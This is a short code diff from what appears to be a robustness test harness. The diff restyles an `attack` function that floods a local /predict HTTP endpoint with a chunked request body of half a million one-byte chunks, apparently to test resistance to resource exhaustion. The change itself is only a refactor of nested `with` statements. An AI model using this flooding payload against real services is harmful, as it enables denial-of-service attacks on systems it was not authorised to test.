@@ -137,10 +137,9 @@ def attack(port: int, seconds: float) -> None:
     def send_chunks() -> None:
         head = b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
         while time.monotonic() < end:
-            with contextlib.suppress(OSError):
-                with socket.create_connection(("127.0.0.1", port), 10, (ATTACKER, 0)) as one:
-                    one.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * 500_000)
-                    one.recv(100)
+            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 10, (ATTACKER, 0)) as one:
+                one.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n[\r\n" * 500_000)
+                one.recv(100)
             counts["bodies of small chunks"] += 1
 
     def connect() -> None:
